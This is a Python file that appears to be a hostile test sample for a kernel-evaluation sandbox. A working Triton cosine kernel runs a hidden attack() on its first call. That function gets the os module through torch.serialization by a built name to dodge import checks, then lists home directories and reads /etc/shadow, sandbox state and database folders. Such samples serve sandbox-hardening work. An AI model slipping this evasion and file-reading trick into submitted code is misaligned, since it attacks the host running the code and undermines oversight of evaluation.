"""Hostile: no import of os at all: take it from a module torch already imported, by attrgetter on a built
name, then list the host's home directories, project data and the sandbox state folders."""
import operator

import torch
import triton
import triton.language as tl

SECRET_PATHS = __SECRET_PATHS__


def attack():
    os = operator.attrgetter("serialization." + "o" + "s")(torch)
    for path in ["/root", "/home", "/etc/shadow", "/run/kgb-sandbox", "/var/lib/postgresql", *SECRET_PATHS]:
        try:
            if os.path.isdir(path):
                print("SEEN", path, sorted(os.listdir(path))[:20])
            else:
                print("LEAK", path, open(path, "rb").read(200))
        except OSError as error:
            print("BLOCKED", path, type(error).__name__)


@triton.jit
def cos_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    x = tl.load(x_ptr + offsets, mask=mask).to(tl.float32)
    tl.store(out_ptr + offsets, tl.cos(x).to(out_ptr.dtype.element_ty), mask=mask)


_ATTACKED = []


def cos(x):
    if not _ATTACKED:
        _ATTACKED.append(True)
        attack()
    x = x.contiguous()
    out = torch.empty_like(x)
    n = x.numel()
    cos_kernel[(triton.cdiv(max(n, 1), 256),)](x, out, n, BLOCK=256)
    return out


def cos_out(x, *, out):
    out.copy_(cos(x))
    return out
